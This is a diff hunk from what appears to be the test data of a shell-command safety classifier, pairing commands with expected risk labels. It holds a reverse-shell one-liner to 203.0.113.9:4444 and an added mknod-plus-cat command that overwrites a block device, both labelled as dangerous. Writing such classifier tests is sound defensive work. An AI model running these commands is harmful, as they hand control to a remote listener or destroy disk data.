@@ -177,3 +177,6 @@ echo 'df -h' | sh 03< run.sh  #=> read_only
 
 sh -i 7<>/dev/tcp/203.0.113.9/4444 0>&7 1>&7  #=> unknown code.remote -- commands of whoever listens there
 wc -l 7</dev/tcp/203.0.113.9/4444 0<&7  #=> read_only
+
+mknod /tmp/vda b 253 0; cat disk.img > /tmp/vda  #=> destructive -- another name of the disk
+mknod /tmp/fifo p; cat disk.img > /tmp/fifo  #=> reversible_low
